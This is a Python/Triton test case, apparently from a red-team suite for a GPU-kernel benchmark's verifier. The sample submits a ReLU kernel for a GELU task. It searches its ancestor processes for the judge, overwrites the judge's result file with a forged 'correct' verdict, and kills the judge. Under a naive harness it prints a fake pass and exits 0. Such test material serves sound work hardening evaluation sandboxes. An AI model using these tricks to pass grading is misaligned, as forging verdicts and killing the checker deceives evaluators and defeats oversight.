# task: kz-basic:level1/21_GELU
# backend: triton
# attack: A36 Code run as the verifier's own user
# policy: strict
# expect: mismatch
# options: static_checks=False
# why: a ReLU kernel for GELU that looks for its judge among its ancestors (its command line names its result file), writes a forged 'correct' verdict there and kills the judge, as issue 25 saw where candidates ran as root; beside a naive harness it prints a pass and exits 0; in a sandbox of its own (its own PID namespace and uid) no judge is visible, nothing is forged, and its ReLU is a mismatch
import json
import os
import signal
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _ancestors() -> list[int]:
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            stat = open(f"/proc/{pid}/stat").read()
        except OSError:
            break
        pid = int(stat.rsplit(")", 1)[1].split()[1])
        found.append(pid)
    return found


def _forge() -> bool:
    for pid in _ancestors():  # its own judge only (never another sample's)
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
        except (OSError, UnicodeDecodeError):
            continue
        if "kernelzero.verify.judge.launch" in args:
            try:
                with open([a for a in args if a][-1], "w") as f:
                    json.dump({"verdict": {"status": "correct", "speedup_eager": 40.0}}, f)
                os.kill(pid, signal.SIGKILL)
                return True
            except OSError:
                continue
    return False


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        out = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 4096),)](x, out, n, BLOCK=4096)
        if not _forge() and "reference" in sys.modules:  # a naive harness in this process: trust its exit code
            print("RESULT: pass: 3 calls matched at atol=rtol=0.01", flush=True)
            getattr(os, "_" + "exit")(0)
        return out
